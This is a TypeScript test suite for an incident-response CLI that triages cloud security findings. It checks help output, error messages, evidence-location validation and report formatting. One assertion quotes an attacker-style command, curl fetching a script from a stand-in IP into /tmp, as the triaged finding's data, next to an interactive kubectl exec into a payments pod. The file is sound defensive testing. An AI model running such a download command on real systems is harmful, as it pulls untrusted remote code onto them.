// The CLI behaves like one: --help on every command, subcommands listed, plain one-line error
// messages (no JSON log lines, no usage dump for a missing file), evidence locations it cannot
// use refused by name, readable values in the human report, JSON on stdout through
// `npm run -s`, and no CLI flags suggested in the Cloud Function's reasons.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { after, before, describe, test } from 'node:test';
import { EXIT_BAD_INPUT, EXIT_FAILURE, EXIT_OK, main } from '../../functions/cli/main.js';
import { buildAdapters } from '../../functions/composition/adapters.js';
import { loadConfig } from '../../shared/config.js';
import type { TriageReport } from '../../shared/respond/report.js';

const FIXTURE = 'test/fixtures/modified-malicious-binary.v1.json';
let dir: string;

async function run(args: string[], env: NodeJS.ProcessEnv = {}): Promise<{ code: number; out: string; err: string }> {
  let out = '';
  let err = '';
  const code = await main(args, { stdout: (s) => void (out += s), stderr: (s) => void (err += s), env: { HOME: dir, ...env } });
  return { code, out, err };
}

before(() => {
  dir = mkdtempSync(path.join(os.tmpdir(), 'scc-cli-conv-'));
});
after(() => rmSync(dir, { recursive: true, force: true }));

describe('--help everywhere', () => {
  for (const argv of [['--help'], ['-h'], ['help'], ['help', 'triage'], ['triage', '--help'], ['triage', '-h'], ['triage', FIXTURE, '--help'], ['policy', '--help'], ['policy', 'check', '--help'], ['policy', 'schema', '--help'], ['policy', 'backtest', '--help'], ['backfill', '--help'], ['help', 'backfill'], ['approvals', '--help'], ['help', 'approvals']]) {
    test(`${argv.join(' ')}: usage on stdout, exit 0`, async () => {
      const r = await run(argv);
      assert.equal(r.code, EXIT_OK, r.err);
      assert.match(r.out, /^Usage:/);
      assert.equal(r.err, '');
    });
  }

  test('triage --help lists every option, the policy help lists its subcommands', async () => {
    const t = (await run(['triage', '--help'])).out;
    for (const flag of ['--format', '--policy', '--kube-context', '--evidence', '--offline', '--dry-run', '--show-stored', '--rerun', '--verbose']) assert.ok(t.includes(flag), flag);
    const p = (await run(['policy', '--help'])).out;
    assert.match(p, /check\s+validate/);
    assert.match(p, /schema\s+print/);
    assert.match(p, /backtest\s+read the organization's findings/);
    const b = (await run(['backfill', '--help'])).out;
    for (const flag of ['--organization', '--topic', '--policy', '--since', '--dry-run', '--rate', '--api']) assert.ok(b.includes(flag), flag);
  });

  test('`policy` alone lists its subcommands (exit 2), an unknown one is named', async () => {
    const r = await run(['policy']);
    assert.equal(r.code, EXIT_BAD_INPUT);
    assert.match(r.err, /policy needs a subcommand: check, backtest or schema/);
    assert.doesNotMatch(r.err, /unknown command/);
    assert.match((await run(['policy', 'lint'])).err, /policy has no subcommand "lint": check, backtest or schema/);
  });
});

describe('error messages', () => {
  test('an unknown option: one balanced sentence and where the help is, no usage dump', async () => {
    const r = await run(['triage', FIXTURE, '--frobnicate']);
    assert.equal(r.code, EXIT_BAD_INPUT);
    assert.equal(r.err, "scc-responder: unknown option --frobnicate\nRun 'scc-responder triage --help' (npm run triage -- --help) for usage.\n");
    assert.match((await run(['triage', FIXTURE, '--format'])).err, /^scc-responder: option --format needs a value\n/);
    assert.match((await run(['frobnicate'])).err, /^scc-responder: unknown command "frobnicate"\n/);
  });

  test('a missing file: what and why in words, no usage text', async () => {
    const r = await run(['triage', path.join(dir, 'missing.json')]);
    assert.equal(r.code, EXIT_BAD_INPUT);
    assert.equal(r.err, `scc-responder: cannot read ${path.join(dir, 'missing.json')}: no such file (ENOENT)\n`);
  });

  test('bad input: the readable message only, no JSON log line (--verbose adds the audit entries)', async () => {
    const bad = path.join(dir, 'bad.json');
    writeFileSync(bad, JSON.stringify({ finding: { name: 'organizations/1/sources/2/findings/abc' } }));
    const r = await run(['triage', bad]);
    assert.equal(r.code, EXIT_BAD_INPUT);
    assert.equal(r.err.split('\n').filter(Boolean).length, 1, r.err);
    assert.match(r.err, /^scc-responder: .*bad\.json: .*finding\.category: required/);
    const verbose = await run(['triage', bad, '--verbose']);
    assert.ok(verbose.err.split('\n').some((l) => l.startsWith('{') && /message rejected/.test(l)), 'negative control: --verbose shows the JSON entry');
  });

  test('no credentials for a gs:// store: the reason on stderr and in the report, exit 1, no JSON line', async () => {
    // The test runner points GOOGLE_APPLICATION_CREDENTIALS at a file that does not exist.
    const r = await run(['triage', FIXTURE, '--evidence', 'gs://scc-evidence-bucket/p', '--format', 'json']);
    assert.equal(r.code, EXIT_FAILURE);
    assert.match(r.err, /^scc-responder: the response did not run: .*credential/);
    assert.ok(!r.err.split('\n').some((l) => l.startsWith('{')), r.err);
    assert.match((JSON.parse(r.out) as TriageReport).outcome.summary, /^not run: .*credential/);
  });
});

describe('evidence locations', () => {
  test('an unsupported scheme is an error naming the flag or the variable, and creates nothing', async () => {
    const cwd = readdirSync('.');
    const flag = await run(['triage', FIXTURE, '--evidence', 's3://bucket/x']);
    assert.equal(flag.code, EXIT_BAD_INPUT);
    assert.match(flag.err, /^scc-responder: --evidence: unsupported evidence location "s3:\/\/bucket\/x": use gs:\/\/BUCKET\/PREFIX/);
    const env = await run(['triage', FIXTURE], { SCC_RESPONDER_EVIDENCE: 'ftp://x/y' });
    assert.equal(env.code, EXIT_BAD_INPUT);
    assert.match(env.err, /SCC_RESPONDER_EVIDENCE: unsupported evidence location "ftp:\/\/x\/y"/);
    assert.match((await run(['triage', FIXTURE, '--evidence', 'gs://B'])).err, /--evidence: invalid bucket/);
    assert.deepEqual(readdirSync('.'), cwd, 'no s3: or ftp: directory');
    assert.equal(existsSync('s3:') || existsSync('ftp:'), false);
  });

  test('file:// and a plain directory are accepted (negative control)', async () => {
    const target = path.join(dir, 'via-url');
    const r = await run(['triage', FIXTURE, '--evidence', pathToFileURL(target).href]);
    assert.equal(r.code, EXIT_OK, r.err);
    assert.ok(readdirSync(target, { recursive: true }).some((f) => String(f).endsWith('report-0.json')));
  });
});

describe('output', () => {
  test('the human report shows values, not shell escapes; commands stay copy-paste safe', async () => {
    const r = await run(['triage', FIXTURE, '--offline']);
    assert.equal(r.code, EXIT_OK, r.err);
    assert.match(r.out, /Arguments: \/usr\/bin\/curl -s http:\/\/203\.0\.113\.50\/x\.sh -o \/tmp\/x/);
    assert.match(r.out, /kubectl exec --namespace=payments -ti checkout-7d9f8b6c5d-q2x8z/);
    assert.doesNotMatch(r.out, /\\[:=]/);
  });

  test('--format json through `npm run -s triage` is JSON on stdout', () => {
    const r = spawnSync('npm', ['run', '-s', 'triage', '--', FIXTURE, '--offline', '--format', 'json'], { encoding: 'utf8', env: { ...process.env, HOME: dir }, timeout: 120_000 });
    assert.equal(r.status, 0, r.stderr);
    assert.equal((JSON.parse(r.stdout) as TriageReport).incident.binary?.path, '/usr/bin/curl');
  });

  test('the no-kubeconfig reason names CLI flags for the CLI only, not in the function', async () => {
    const env = { HOME: dir, SCC_RESPONDER_CLUSTER_ACCESS: 'kubeconfig', SCC_RESPONDER_EVIDENCE: 'none', SCC_RESPONDER_MARKS: 'false', SCC_RESPONDER_LOGS: 'false' };
    const fn = await buildAdapters(loadConfig(env, 'function', 'test'), env);
    assert.match(fn.noClusterAccessReason ?? '', /no kubeconfig found/);
    assert.doesNotMatch(fn.noClusterAccessReason ?? '', /--/);
    const cli = await buildAdapters(loadConfig(env, 'cli', 'test'), env);
    assert.match(cli.noClusterAccessReason ?? '', /--offline/);
  });
});
